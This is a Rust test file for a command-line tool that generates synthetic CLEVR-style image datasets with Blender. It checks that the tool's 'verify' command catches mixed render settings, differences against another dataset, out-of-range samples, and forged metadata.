/// redone with `generate --mix-settings` (recorded in its manifest) passes, the mix named.
#[test]
fn runs_of_other_settings_in_one_folder_fail_verify_unless_mixed_on_purpose() {
    let Some(blender) = blender_or_skip("runs of other settings in one folder") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("data");
    let generate = |extra: &[&str]| {
        clevrtex()
            .args(["generate", "--variant", "clevr", "--total", "4"])
            .args(["--passes", "rgb,mask", "--workers", "1", "--blender"])
            .arg(&blender)
            .arg("--out")
            .arg(&out)
            .args(extra)
            .env_remove("SLURM_ARRAY_TASK_ID")
            .env_remove("JOB_COMPLETION_INDEX")
            .output()
            .unwrap()
    };
    let o = generate(&[
        "-n",
        "2",
        "--width",
        "32",
        "--height",
        "24",
        "--samples",
        "2",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let later = [
        "--start",
        "2",
        "-n",
        "2",
        "--width",
        "24",
        "--height",
        "18",
        "--samples",
        "1",
    ];
    let o = generate(&later);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let (o, t) = verify(&[&out]);
    assert_eq!(o.status.code(), Some(3), "{t}");
    for want in [
        "MANIFEST-0-2-0of1.json",
        "MANIFEST-2-4-0of1.json",
        "differ in settings",
        "render width 32 vs 24",
        "render height 24 vs 18",
        "render samples 2 vs 1",
        "--mix-settings",
    ] {
        assert!(t.contains(want), "{want:?} not in: {t}");
    }
    let card = std::fs::read_to_string(out.join("DATASET_CARD.md")).unwrap();
    for want in [
        "**Mixed settings**",
        "- 32x24 pixels, 2 Cycles samples per pixel: `clevr` 0..2",
        "- 24x18 pixels, 1 Cycles samples per pixel: `clevr` 2..4",
    ] {
        assert!(card.contains(want), "{want:?} not in: {card}");
    }

    let mut mixed = later.to_vec();
    mixed.push("--mix-settings");
    let o = generate(&mixed);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let m: Value = serde_json::from_slice(
        &std::fs::read(out.join("clevrtex_clevr/MANIFEST-2-4-0of1.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(m["mixed_settings"], true, "{m}");
    let (o, t) = verify(&[&out]);
    assert_eq!(o.status.code(), Some(0), "{t}");
    assert!(
        t.contains("settings mixed on purpose") && t.contains("render width 32 vs 24"),
        "{t}"
    );
}

/// Issue 41: `verify DIR --against OTHER` on the two-shard run and the same command run
/// unsharded: same layouts, masks and metadata image by image (rendered passes that differ
/// are render noise, not failures), also against OTHER's manifests alone; a mask or layout
/// that differs is named, a Blender version that differs is not, and an OTHER of another
/// seed or suite is named as another command, its images not compared.
#[test]
fn verify_against_another_dataset_of_the_same_command_compares_image_by_image() {
    let Some((_dir, a, b)) = copy() else { return };
    let (tmp, c) = unsharded_copy().unwrap();
    let against = |other: &Path| {
        let o = clevrtex()
            .arg("verify")
            .args([&a, &b])
            .arg("--against")
            .arg(other)
            .output()
            .unwrap();
        let t = text(&o);
        (o.status.code(), t)
    };
    let (code, t) = against(&c);
    assert_eq!(code, Some(0), "{t}");
    assert!(
        t.contains("4 of 4 image(s) in both hold the same layout, mask and metadata")
            && t.contains("same layouts, masks and metadata"),
        "{t}"
    );
    // Just the manifests of OTHER.
    let m = tmp.path().join("m/clevrtex_clevr");
    std::fs::create_dir_all(&m).unwrap();
    let cm = c.join("clevrtex_clevr/MANIFEST-0-4-0of1.json");
    std::fs::copy(&cm, m.join("MANIFEST-0-4-0of1.json")).unwrap();
    let (code, t) = against(m.parent().unwrap());
    assert_eq!(code, Some(0), "{t}");

    // OTHER's metadata with another Blender version (provenance): still the same; with
    // another object position, and a mask of other bytes: named.
    let edit_meta = |index: u64, f: &dyn Fn(&mut Value)| {
        let p = c.join(format!("clevrtex_clevr/0/CLEVRTEX_clevr_{index:06}.json"));
        let mut meta: Value = serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
        f(&mut meta);
        std::fs::write(&p, serde_json::to_vec_pretty(&meta).unwrap()).unwrap();
    };
    edit_meta(0, &|m| m["blender_version"] = "9.9.9".into());
    rehash_manifest(&c);
    let (code, t) = against(&c);
    assert_eq!(code, Some(0), "{t}");
    edit_meta(1, &|m| m["objects"][0]["3d_coords"][0] = 99.0.into());
    std::fs::write(
        c.join("clevrtex_clevr/0/CLEVRTEX_clevr_000002_flat.png"),
        std::fs::read(sample(&a, 0, "_flat.png")).unwrap(),
    )
    .unwrap();
    rehash_manifest(&c);
    let (code, t) = against(&c);
    assert_eq!(code, Some(3), "{t}");
    assert!(
        t.contains("CLEVRTEX_clevr_000001: metadata differs in objects"),
        "{t}"
    );
    assert!(t.contains("CLEVRTEX_clevr_000002: mask differs"), "{t}");
    assert!(t.contains("2 of 4 image(s)"), "{t}");

    // Another seed and suite: another command, named.
    let mut man: Value = serde_json::from_slice(&std::fs::read(&cm).unwrap()).unwrap();
    man["seed"] = 4.into();
    man["suite"] = "clevrtex".into();
    std::fs::write(&cm, serde_json::to_vec_pretty(&man).unwrap()).unwrap();
    let (code, t) = against(&c);
    assert_eq!(code, Some(3), "{t}");
    for want in [
        "not comparable with",
        "--seed 3 vs 4",
        "suite (none) vs clevrtex",
    ] {
        assert!(t.contains(want), "{want:?} not in: {t}");
    }
    assert!(!t.contains("mask differs"), "images not compared: {t}");
}

/// Issue 48: a manifest whose range lies far past the samples found does not count them as
/// its run's: `0 of 1 expected`, the samples listed as outside the run's indices (it read
/// `2 of 1 expected samples whole`).
#[test]
fn samples_outside_every_runs_range_are_not_counted_as_expected() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    for i in 0..2 {
        crate::util::hand_png_sample(&out, "clevr", i, (8, 6), (8, 6));
    }
    let manifest = serde_json::json!({
        "format": "clevrtex-manifest", "version": 1, "variant": "clevr", "seed": 0,
        "config_hash": "0", "start": 1000000, "end": 1000001, "total": 1000001,
        "shard": [0, 1], "passes": ["rgb", "mask"], "tool_version": "0.1.0",
        "blender_version": "3.4.1", "command": ["clevrtex", "generate"], "files": {},
    });
    std::fs::write(
        out.join("clevrtex_clevr/MANIFEST-1000000-1000001-0of1.json"),
        manifest.to_string(),
    )
    .unwrap();
    let (o, t) = verify(&[&out]);
    assert_ne!(o.status.code(), Some(0), "{t}");
    assert!(!t.contains("2 of 1 expected"), "{t}");
    assert!(t.contains("clevr: 0 of 1 expected samples whole"), "{t}");
    assert!(t.contains("outside the run's indices (2"), "{t}");
}

/// The shards' run made unsharded into one folder (the same command without `--shard`), once.
fn unsharded() -> Option<&'static (tempfile::TempDir, PathBuf)> {
    static S: OnceLock<Option<(tempfile::TempDir, PathBuf)>> = OnceLock::new();
    S.get_or_init(|| {
        let blender = blender_or_skip("verify --against")?;
        let dir = tempfile::tempdir().unwrap();
        let c = dir.path().join("c");
        let o = clevrtex()
            .args(["generate", "--variant", "clevr", "-n", "4", "--seed", "3"])
            .args(["--width", "48", "--height", "36", "--samples", "1"])
            .args(["--passes", "rgb,mask,depth", "--workers", "1", "--blender"])
            .arg(&blender)
            .arg("--out")
            .arg(&c)
            .env_remove("SLURM_ARRAY_TASK_ID")
            .env_remove("JOB_COMPLETION_INDEX")
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        Some((dir, c))
    })
    .as_ref()
}

/// A fresh copy of [`unsharded`]'s folder (in a temporary folder returned with it).
fn unsharded_copy() -> Option<(tempfile::TempDir, PathBuf)> {
    let (_, c) = unsharded()?;
    let dir = tempfile::tempdir().unwrap();
    let to = dir.path().join("c");
    let st = std::process::Command::new("cp")
        .arg("-a")
        .arg(c)
        .arg(&to)
        .status()
        .unwrap();
    assert!(st.success());
    Some((dir, to))
}

/// Issue 48: `verify A --against B` reads B's files, not only B's manifests: a mask pixel
/// changed in B, a sample deleted from B, a metadata field changed in B (with B's manifests
/// left as they were) are each a difference (exit 3, the sample and file named); a metadata
/// file whose floats are written another way (`1.5` as `1.50`) is the same; against B's
/// manifests alone the report says it compared claims, not files.
#[test]
fn verify_against_reads_the_other_datasets_files() {
    let Some((_dir, a, b)) = copy() else { return };
    let against = |other: &Path| {
        let o = clevrtex()
            .arg("verify")
            .args([&a, &b])
            .arg("--against")
            .arg(other)
            .output()
            .unwrap();
        (o.status.code(), text(&o))
    };
    // Untouched: the same, files read.
    let (_t0, c) = unsharded_copy().unwrap();
    let (code, t) = against(&c);
    assert_eq!(code, Some(0), "{t}");
    assert!(
        t.contains("same layouts, masks and metadata") && !t.contains("claims"),
        "{t}"
    );

    // One mask pixel changed in B, B's manifest left as it was.
    let mask = sample(&c, 2, "_flat.png");
    let png = post::decode_png(&mask).unwrap();
    let mut ids: Vec<u8> = png.data.iter().map(|&v| v as u8).collect();
    ids[0] = if ids[0] == 0 { 1 } else { 0 };
    std::fs::write(
        &mask,
        post::encode_png(PngKind::Palette8, png.width, png.height, &ids, &[]).unwrap(),
    )
    .unwrap();
    let (code, t) = against(&c);
    assert_eq!(code, Some(3), "a mask pixel changed in B: {t}");
    assert!(
        t.contains("CLEVRTEX_clevr_000002:")
            && t.contains("`CLEVRTEX_clevr_000002_flat.png` there differs from its manifest"),
        "{t}"
    );
    assert!(!t.contains("same layouts"), "{t}");

    // A sample deleted from B.
    let (_t1, c) = unsharded_copy().unwrap();
    for suffix in [".png", "_flat.png", "_depth_0001.png", ".json"] {
        std::fs::remove_file(sample(&c, 3, suffix)).unwrap();
    }
    let (code, t) = against(&c);
    assert_eq!(code, Some(3), "a sample deleted from B: {t}");
    assert!(
        t.contains("`CLEVRTEX_clevr_000003.json` is in a manifest there but missing"),
        "{t}"
    );

    // A metadata field changed in B: named, and the fingerprints differ.
    let (_t2, c) = unsharded_copy().unwrap();
    let f = sample(&c, 1, ".json");
    let mut meta: Value = serde_json::from_slice(&std::fs::read(&f).unwrap()).unwrap();
    meta["ground_material"] = "forged".into();
    std::fs::write(&f, serde_json::to_vec_pretty(&meta).unwrap()).unwrap();
    let (code, t) = against(&c);
    assert_eq!(code, Some(3), "a metadata field changed in B: {t}");
    assert!(t.contains("metadata differs in ground_material"), "{t}");

    // Floats written another way (a trailing zero), the manifest rehashed: the same values.
    let (_t3, c) = unsharded_copy().unwrap();
    let f = sample(&c, 1, ".json");
    let text0 = std::fs::read_to_string(&f).unwrap();
    let key = "\"focal_length_mm\": ";
    let at = text0.find(key).unwrap() + key.len();
    let end = at + text0[at..].find([',', '\n']).unwrap();
    assert!(text0[at..end].contains('.'), "a float: {}", &text0[at..end]);
    let respelled = format!("{}{}0{}", &text0[..at], &text0[at..end], &text0[end..]);
    std::fs::write(&f, respelled).unwrap();
    rehash_manifest(&c);
    let (code, t) = against(&c);
    assert_eq!(
        code,
        Some(0),
        "a float written with a trailing zero is the same: {t}"
    );

    // B's manifests alone (an untouched run's): compared as claims, and said so.
    let (_, c) = unsharded().unwrap();
    let m = _t3.path().join("m/clevrtex_clevr");
    std::fs::create_dir_all(&m).unwrap();
    std::fs::copy(manifest_of(c), m.join(manifest_of(c).file_name().unwrap())).unwrap();
    let (code, t) = against(m.parent().unwrap());
    assert_eq!(code, Some(0), "{t}");
    assert!(
        t.contains("manifests' claims, not its files")
            && t.contains("the same layouts, masks and metadata claimed"),
        "{t}"
    );
}

/// Issue 48: `verify` draws each sample's layout again from its run's seed and config and
/// compares it with the metadata: a forged field (an object's rotation, the ground material,
/// the camera) is named even with the manifest's hashes rewritten to match; a metadata file
/// whose `visibility_threshold_px` is 0 or absent, or without `layout_stream`, fails; a
/// manifest whose `passes` is empty is not "any passes".
#[test]
fn verify_rederives_each_layout_from_its_seed_and_config() {
    let Some((_dir, a, b)) = copy() else { return };
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(0), "{t}");
    assert!(t.contains("4 sample(s) re-derived"), "{t}");
    let edit = |dir: &Path, index: u64, f: &dyn Fn(&mut Value)| {
        let p = sample(dir, index, ".json");
        let mut meta: Value = serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
        f(&mut meta);
        std::fs::write(&p, serde_json::to_vec_pretty(&meta).unwrap()).unwrap();
        rehash_manifest(dir);
    };
    type Edit<'a> = &'a dyn Fn(&mut Value);
    let cases: [(&str, Edit, &str); 6] = [
        (
            "rotation",
            &|m| {
                let r = m["objects"][0]["rotation"].as_f64().unwrap();
                m["objects"][0]["rotation"] = (r + 10.0).into();
            },
            "`objects[0].rotation`",
        ),
        (
            "ground material",
            &|m| m["ground_material"] = "forged".into(),
            "`ground_material` \"forged\"",
        ),
        (
            "camera",
            &|m| m["camera"]["focal_length_mm"] = 50.5.into(),
            "`camera`",
        ),
        (
            "threshold 0",
            &|m| m["visibility_threshold_px"] = 0.into(),
            "metadata `visibility_threshold_px` is 0",
        ),
        (
            "threshold dropped",
            &|m| {
                m.as_object_mut().unwrap().remove("visibility_threshold_px");
            },
            "metadata `visibility_threshold_px` is absent",
        ),
        (
            "layout stream dropped",
            &|m| {
                m.as_object_mut().unwrap().remove("layout_stream");
            },
            "layout_stream clevr vs null",
        ),
    ];
    for (what, f, want) in cases {
        let Some((_d, a, b)) = copy() else { return };
        edit(&b, 1, f);
        let (out, t) = verify(&[&a, &b]);
        assert_eq!(out.status.code(), Some(3), "{what}: {t}");
        assert!(t.contains("CLEVRTEX_clevr_000001 "), "{what}: {t}");
        assert!(t.contains(want), "{what}: {want:?} not in: {t}");
    }
    // A manifest naming no pass.
    let Some((_d, a, b)) = copy() else { return };
    let mp = manifest_of(&b);
    let mut m: Value = serde_json::from_slice(&std::fs::read(&mp).unwrap()).unwrap();
    m["passes"] = serde_json::json!([]);
    std::fs::write(&mp, serde_json::to_vec_pretty(&m).unwrap()).unwrap();
    let (out, t) = verify(&[&a, &b]);
    assert_eq!(out.status.code(), Some(3), "{t}");
    assert!(t.contains("passes (none) vs depth,mask,rgb"), "{t}");
}
